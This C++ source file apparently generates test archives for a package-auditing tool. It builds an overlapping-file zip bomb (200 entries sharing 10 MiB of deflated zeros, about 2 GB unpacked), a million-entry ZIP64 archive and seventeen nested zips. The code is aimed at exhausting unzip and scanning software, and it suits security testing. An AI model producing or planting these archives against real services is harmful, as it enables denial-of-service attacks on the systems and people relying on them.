// APPNOTE.TXT 6.3.10: local header 4.3.7, central header 4.3.12, end records 4.3.14 to 4.3.16.

#include "bomb.hpp"

#include <fmt/format.h>
#include <zlib.h>

#include <vector>

namespace package_audit::proof {

namespace {

struct ZipMember {
  std::string name{};
  std::uint16_t method = 0;
  std::uint32_t crc = 0;
  std::uint64_t packed = 0;
  std::uint64_t size = 0;
  std::uint64_t offset = 0;
};

std::string common(const ZipMember& member) {
  return little_endian(20, 2) + little_endian(0, 2) + little_endian(member.method, 2) +
         little_endian(0x576E6000, 4) + little_endian(member.crc, 4) +
         little_endian(member.packed, 4) + little_endian(member.size, 4) +
         little_endian(member.name.size(), 2) + little_endian(0, 2);
}

std::string local_header(const ZipMember& member) {
  return "PK\x03\x04" + common(member) + member.name;
}

std::string central_header(const ZipMember& member) {
  constexpr std::uint32_t k_mode = 0100644U << 16;
  return "PK\x01\x02" + little_endian(3 << 8 | 20, 2) + common(member) + little_endian(0, 6) +
         little_endian(k_mode, 4) + little_endian(member.offset, 4) + member.name;
}

std::string end_record(std::uint64_t entries, std::uint64_t size, std::uint64_t offset) {
  return "PK\x05\x06" + little_endian(0, 4) + little_endian(entries, 2) +
         little_endian(entries, 2) + little_endian(size, 4) + little_endian(offset, 4) +
         little_endian(0, 2);
}

std::string zip64_records(std::uint64_t entries, std::uint64_t size, std::uint64_t offset) {
  const std::string record = "PK\x06\x06" + little_endian(44, 8) + little_endian(3 << 8 | 45, 2) +
                             little_endian(45, 2) + little_endian(0, 8) +
                             little_endian(entries, 8) + little_endian(entries, 8) +
                             little_endian(size, 8) + little_endian(offset, 8);
  return record + "PK\x06\x07" + little_endian(0, 4) + little_endian(offset + size, 8) +
         little_endian(1, 4);
}

std::string deflated(std::string plain) {
  std::string output(compressBound(plain.size()), '\0');
  uLongf size = output.size();
  compress2(reinterpret_cast<Bytef*>(output.data()), &size,
            reinterpret_cast<const Bytef*>(plain.data()), plain.size(), 9);
  // Without zlib's own frame: two bytes in front, four behind.
  return output.substr(2, size - 6);
}

std::string stored_zip(const std::string& name, const std::string& content) {
  const ZipMember member{
      .name = name, .crc = crc_of(content), .packed = content.size(), .size = content.size()};
  const std::string local = local_header(member) + content;
  const std::string central = central_header(member);
  return local + central + end_record(1, central.size(), local.size());
}

} // namespace

// Two hundred files that share 10 MiB of zeros. The data of each is a block that quotes the header
// of the next one as literal bytes (RFC 1951, section 3.2.4), and then the next one's data.
void write_overlapping_zip(BombFile& file) {
  const std::string kernel(std::size_t{10} << 20, '\0');
  const std::string packed = deflated(kernel);
  std::vector<ZipMember> members;
  std::string bytes = packed; // from the data of the first of `members` on
  std::uint32_t crc = crc_of(kernel);
  std::uint64_t size = kernel.size();
  for (int number = 200; number > 0; --number) {
    const ZipMember member{.name = fmt::format("{:03}", number),
                           .method = 8,
                           .crc = crc,
                           .packed = bytes.size(),
                           .size = size};
    members.insert(members.begin(), member);
    const std::string header = local_header(member);
    const std::string quote = std::string(1, '\0') + little_endian(header.size(), 2) +
                              little_endian(~header.size() & 0xFFFF, 2);
    bytes = number == 1 ? header + bytes : quote + header + bytes;
    crc =
        static_cast<std::uint32_t>(crc32_combine(crc_of(header), crc, static_cast<z_off_t>(size)));
    size += header.size();
  }
  std::string directory;
  std::uint64_t offset = 0;
  for (ZipMember& member : members) {
    member.offset = offset;
    directory += central_header(member);
    constexpr std::uint64_t k_quote = 5;
    offset += local_header(member).size() + k_quote;
  }
  file.write(bytes + directory + end_record(members.size(), directory.size(), bytes.size()));
}

void write_zip_of_a_million(BombFile& file) {
  constexpr std::uint64_t k_count = 1'000'000;
  const auto member = [](std::uint64_t number) {
    return ZipMember{.name = fmt::format("f{:07}", number)};
  };
  for (std::uint64_t i = 0; i < k_count; ++i)
    file.write(local_header(member(i)));
  const std::uint64_t directory = file.position();
  const std::uint64_t step = directory / k_count;
  for (std::uint64_t i = 0; i < k_count; ++i) {
    ZipMember each = member(i);
    each.offset = i * step;
    file.write(central_header(each));
  }
  const std::uint64_t size = file.position() - directory;
  file.write(zip64_records(k_count, size, directory) + end_record(0xFFFF, size, directory));
}

void write_seventeen_zips_in_each_other(BombFile& file) {
  std::string inner = "text";
  for (int depth = 0; depth < 17; ++depth)
    inner = stored_zip(depth == 0 ? "file" : "inner.zip", inner);
  file.write(inner);
}

} // namespace package_audit::proof
